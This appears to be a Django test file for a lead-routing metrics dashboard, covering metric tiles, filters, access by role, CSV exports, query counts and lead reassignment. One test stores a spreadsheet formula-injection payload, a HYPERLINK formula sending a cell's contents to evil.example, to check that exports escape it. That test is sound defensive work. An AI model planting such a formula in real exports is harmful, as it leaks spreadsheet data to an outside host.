import csv
import io
import re

import pytest
from django.db import connection
from django.urls import reverse
from knox.models import AuthToken

from leadhub.leads.models import Lead
from leadhub.web.tests import dataset
from routing.models import Decision

pytestmark = pytest.mark.django_db

JAN = {"start": "2026-01-01", "end": "2026-01-31"}


@pytest.fixture
def world():
    return dataset.build()


def page(client, url: str, params: dict | None = None) -> str:
    """The page as a browser ends up showing it: the page, then each section it loads."""
    response = client.get(url, params or {})
    assert response.status_code == 200
    html = response.content.decode()
    parts = [html]
    for section in re.findall(r'hx-get="([^"]+)"', html):
        loaded = client.get(section.replace("&amp;", "&"), headers={"HX-Request": "true"})
        assert loaded.status_code == 200, section
        parts.append(loaded.content.decode())
    return "\n".join(parts)


def tile(html: str, title: str) -> str:
    match = re.search(rf"<h2>{re.escape(title)}</h2><p class=\"stat\">([^<]*)</p>", html)
    assert match, title
    return match.group(1)


def test_the_page_shows_the_apis_numbers(client, api, world):
    client.force_login(world.revops)
    api.credentials(HTTP_AUTHORIZATION=f"Token {AuthToken.objects.create(user=world.revops)[1]}")

    html = page(client, reverse("web:dashboard"), JAN)
    sla = api.get("/api/metrics/sla/", JAN).json()
    speed = api.get("/api/metrics/speed/", JAN).json()
    acceptance = api.get("/api/metrics/acceptance/", JAN).json()
    conversion = api.get("/api/metrics/conversion/", JAN).json()

    assert tile(html, "SLA compliance") == f"{100 * sla['total']['compliance']:.1f} %" == "60.0 %"
    assert (
        tile(html, "Assigned in (p50 / p90)")
        == "30.0 s"
        == f"{speed['overall']['assign']['p50']:.1f} s"
    )
    assert tile(html, "Acceptance") == f"{100 * acceptance['total']['rate']:.1f} %"
    assert tile(html, "Conversion") == f"{100 * conversion['total']['rate']:.1f} %" == "66.7 %"
    assert tile(html, "Breaches") == str(sla["breaches"]["total"]) == "2"


def test_filters_change_the_numbers(client, world):
    client.force_login(world.revops)
    url = reverse("web:dashboard")

    everyone = page(client, url, JAN)
    partner = page(client, url, {**JAN, "source": "partner"})
    november = page(client, url, {"start": "2025-11-01", "end": "2025-11-30"})

    assert tile(everyone, "Assigned in (p50 / p90)") == "30.0 s"
    assert tile(partner, "Assigned in (p50 / p90)") == "45.0 s"
    assert tile(november, "Assigned in (p50 / p90)") == "-"
    december = page(client, url, {"start": "2025-12-01", "end": "2025-12-31"})
    assert tile(december, "Assigned in (p50 / p90)") == "0.0 s"  # the South lead


def test_every_metric_endpoint_answers_in_the_schema_and_rejects_bad_filters(revops_api):
    schema = revops_api.get("/api/schema/", {"format": "json"}).json()
    for name in ("speed", "sla", "acceptance", "conversion", "fairness", "workload"):
        path = f"/api/metrics/{name}/"
        assert path in schema["paths"]
        params = {p["name"] for p in schema["paths"][path]["get"]["parameters"]}
        assert params >= {"team", "rep", "source", "rule", "start", "end"}
        assert revops_api.get(path).status_code == 200

    bad = revops_api.get("/api/metrics/speed/", {"start": "2026-02-01", "end": "2026-01-01"})
    assert bad.status_code == 400 and "start" in bad.json()
    assert revops_api.get("/api/metrics/sla/", {"team": "99999"}).status_code == 400
    assert revops_api.get("/api/metrics/sla/", {"end": "not a day"}).json().keys() == {"end"}


def test_reps_get_403_and_managers_only_their_team(client, api, world):
    client.force_login(world.ann.user)
    assert client.get(reverse("web:dashboard")).status_code == 403
    api.force_authenticate(world.ann.user)
    assert api.get("/api/metrics/speed/").status_code == 403

    client.force_login(world.sam.user)
    assert client.get(reverse("web:dashboard-team", args=[world.north.pk])).status_code == 404
    assert client.get(reverse("web:dashboard-rep", args=[world.bob.pk])).status_code == 404
    assert client.get(reverse("web:dashboard"), {"team": world.north.pk}).status_code == 400
    south = page(client, reverse("web:dashboard"), JAN)
    assert tile(south, "SLA compliance") == "-" and "Bob B" not in south

    client.force_login(world.mia.user)
    assert client.get(reverse("web:dashboard-team", args=[world.north.pk]), JAN).status_code == 200
    rep_page = page(client, reverse("web:dashboard-rep", args=[world.ann.pk]), JAN)
    assert tile(rep_page, "Assigned in (p50 / p90)") == "10.0 s"


def test_csv_export_has_the_tables_rows_and_headers(client, world):
    client.force_login(world.revops)

    response = client.get(reverse("web:dashboard-export", args=["sla_by_rep"]), JAN)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="leadhub-sla_by_rep.csv"' in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows == [["Rep", "Met", "Breached", "Compliance"], ["Ann A", "1", "0", "1.0"],
                    ["Bob B", "2", "2", "0.5"]]  # fmt: skip

    events = client.get(reverse("web:dashboard-export", args=["sla_events"]), JAN)
    rows = list(csv.reader(io.StringIO(b"".join(events.streaming_content).decode())))
    assert rows[0][:3] == ["When", "Lead", "Lead status"] and len(rows) == 3
    assert rows[2][1] == str(world.breached_lead.pk) and rows[2][6] == "reassigned"

    partner = client.get(
        reverse("web:dashboard-export", args=["conversion_by_source"]), {**JAN, "source": "partner"}
    )
    assert b"".join(partner.streaming_content).decode().splitlines()[1:] == ["partner,2,0,0,"]
    assert client.get(reverse("web:dashboard-export", args=["nope"])).status_code == 404


def test_csv_export_keeps_a_formula_in_a_decline_reason_as_text(client, world):
    from leadhub.leads.models import LeadEvent

    reason = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    lead = Lead.objects.get(pk=world.breached_lead.pk)
    LeadEvent.objects.create(
        lead=lead, kind="declined", at=dataset.T0, data={"rep": world.bob.pk, "reason": reason}
    )
    client.force_login(world.revops)
    response = client.get(reverse("web:dashboard-export", args=["decline_reasons"]), JAN)
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows for cell in row]
    assert "'" + reason in cells and reason not in cells


def test_every_table_links_its_csv_and_every_field_has_a_label(client, world):
    client.force_login(world.revops)
    html = page(client, reverse("web:dashboard"), JAN)

    ids = re.findall(r'<(?:input|select|textarea)[^>]*\bid="([^"]+)"', html)
    assert ids
    for field_id in ids:
        assert f'for="{field_id}"' in html, field_id
    hidden = re.findall(r'<input type="hidden"[^>]*>', html)
    inputs = re.findall(r"<(?:input|select|textarea)\b[^>]*>", html)
    assert all('id="' in tag for tag in inputs if tag not in hidden)
    for table in ("speed", "sla_events", "fairness", "workload", "queues", "conversion_by_rule"):
        assert f"/dashboard/export/{table}.csv?" in html
    assert '<script type="application/json">' in html and "chart.umd.min.js" in html
    assert f'href="/leads/{world.breached_lead.pk}/"' in html  # the lead's own page
    assert "Over capacity" in html  # status in words, not colour


def test_the_page_runs_a_fixed_number_of_queries(client, world, django_assert_num_queries):
    client.force_login(world.revops)
    url = reverse("web:dashboard")
    page(client, url, JAN)
    # The page and its six sections (each its own request, signed in again). PostgreSQL
    # takes the four speed percentiles for both groupings in one query; SQLite one window
    # query per measure and grouping (seven more). The speed section also asks whether the
    # speed rollup is built (it is not here, so speed is live) and as of when (two more).
    # The page's headline: four (PostgreSQL) or five; and each request reads whether the
    # user has a rep, for the time zone (seven).
    expected = 51 if connection.vendor == "postgresql" else 59
    with django_assert_num_queries(expected) as first:
        page(client, url, JAN)
    for i in range(5):  # more history, more breach rows on the page: the same queries
        lead = dataset.Lead.objects.create(email=f"more{i}@x.example", captured_at=dataset.T0)
        dataset.LeadEvent.objects.create(
            lead=lead, kind="sla", at=dataset.T0, data={"step": "breach", "action": "recorded"}
        )
    with django_assert_num_queries(len(first.captured_queries)):
        page(client, url, JAN)


def test_a_manager_reassigns_a_breached_lead_with_a_reason(client, world):
    client.force_login(world.mia.user)
    url = reverse("web:dashboard-reassign", args=[world.breached_lead.pk])

    no_reason = client.post(url, {"rep": world.ann.pk, "reason": " "}, follow=True)
    assert "not reassigned" in no_reason.content.decode()
    assert Lead.objects.get(pk=world.breached_lead.pk).owner_id == world.bob.pk

    client.post(url, {"rep": world.ann.pk, "reason": "Bob is out"})
    assert Lead.objects.get(pk=world.breached_lead.pk).owner_id == world.ann.pk
    assert Decision.objects.get(lead=world.breached_lead, effective=True).reason == "Bob is out"

    client.force_login(world.sam.user)
    other = client.post(url, {"rep": world.cat.pk, "reason": "Mine now"})
    assert other.status_code == 404
    assert Lead.objects.get(pk=world.breached_lead.pk).owner_id == world.ann.pk
